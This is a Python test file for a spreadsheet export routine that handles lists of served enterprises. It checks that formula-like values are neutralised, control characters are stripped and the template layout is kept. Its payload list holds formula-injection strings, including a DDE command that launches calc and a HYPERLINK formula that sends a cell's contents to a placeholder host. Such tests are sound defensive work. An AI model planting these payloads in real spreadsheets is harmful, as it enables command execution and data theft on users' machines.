"""Exports: the template's layout with data, never a live formula, no control characters."""

import io
import zipfile
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from shifan.documents.xlsx import export_rows
from tests.documents.specs import ACTIVITIES, SERVED_SMES, sme

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    '=HYPERLINK("http://x.invalid/?"&A1,"点击")',
    "  =1+1",
    "\r=1",
    "#N/A",
]


def _data_sheet(data: bytes, title: str):
    return load_workbook(io.BytesIO(data))[title]


def test_formula_like_values_are_written_as_quoted_strings_never_as_formulas():
    rows = [sme(1, name=payload, contact=payload, mobile=payload) for payload in PAYLOADS]
    data = export_rows(SERVED_SMES, rows)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets == ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"]
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml
    sheet = _data_sheet(data, "服务企业名单")
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    written = [(row[0].value, row[0].quotePrefix, row[2].quotePrefix, row[4].quotePrefix) for row in sheet.iter_rows(2)]
    assert written == [
        ("=1+1", True, True, True),
        ("+cmd|' /C calc'!A0", True, True, True),
        ("@SUM(A1)", True, True, True),
        ("-2+3", True, True, True),
        ("\t=1", True, True, True),
        ('=HYPERLINK("http://x.invalid/?"&A1,"点击")', True, True, True),
        ("  =1+1", True, True, True),
        ("=1", True, True, True),  # the carriage return is a control character, stripped
        ("#N/A", False, False, False),  # a string, not Excel's error value
    ]


def test_ordinary_text_gets_no_quote_prefix_and_numbers_stay_numbers():
    rows = [{"topic": "企业融资培训", "kind": "training", "held_on": date(2025, 3, 1), "attendees": -5,
             "cost": Decimal("-2.5"), "online": False}]
    sheet = _data_sheet(export_rows(ACTIVITIES, rows), "服务活动")
    row = sheet[2]
    assert [cell.value for cell in row] == ["企业融资培训", "培训", row[2].value, -5, -2.5, "否"]
    assert row[2].value.date() == date(2025, 3, 1)
    assert [cell.data_type for cell in row] == ["s", "s", "d", "n", "n", "s"]
    assert [cell.quotePrefix for cell in row] == [False] * 6
    assert row[2].number_format == "yyyy-mm-dd"


def test_control_characters_are_stripped_but_tabs_and_newlines_kept():
    rows = [sme(1, name="甲\x00乙\x07丙\r\n丁\t戊\x1f\x7f\x85己", summary="\x0b\x0c第一行\n第二行")]
    sheet = _data_sheet(export_rows(SERVED_SMES, rows), "服务企业名单")
    assert (sheet["A2"].value, sheet["F2"].value) == ("甲乙丙\n丁\t戊己", "第一行\n第二行")


def test_the_export_keeps_the_template_layout_and_writes_labels_for_codes():
    data = export_rows(SERVED_SMES, [sme(1), sme(2)])
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["服务企业名单", "填写说明", "选项"]
    sheet = workbook["服务企业名单"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["服务企业名称", "统一社会信用代码", "企业联系人", "职务", "手机", "服务内容简述", "满意"],
        ["南昌市第1科技有限公司", "91360100MA35000001", "张三", "总经理", "13800000001", "融资对接与人才培训", "否"],
        ["南昌市第2科技有限公司", "91360100MA35000002", "张三", "总经理", "13800000002", "融资对接与人才培训", "是"],
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G3"
    # Each number cell carries the text format itself, so editing it in Excel keeps it text.
    assert [sheet["B2"].number_format, sheet["E2"].number_format] == ["@", "@"]
    assert len(sheet.data_validations.dataValidation) == 3


def test_missing_keys_and_empty_values_give_empty_cells():
    rows = [{"name": "甲公司", "uscc": "91360100MA35000001", "contact": "", "satisfied": None}]
    sheet = _data_sheet(export_rows(SERVED_SMES, rows), "服务企业名单")
    assert [cell.value for cell in sheet[2]] == ["甲公司", "91360100MA35000001", None, None, None, None, None]
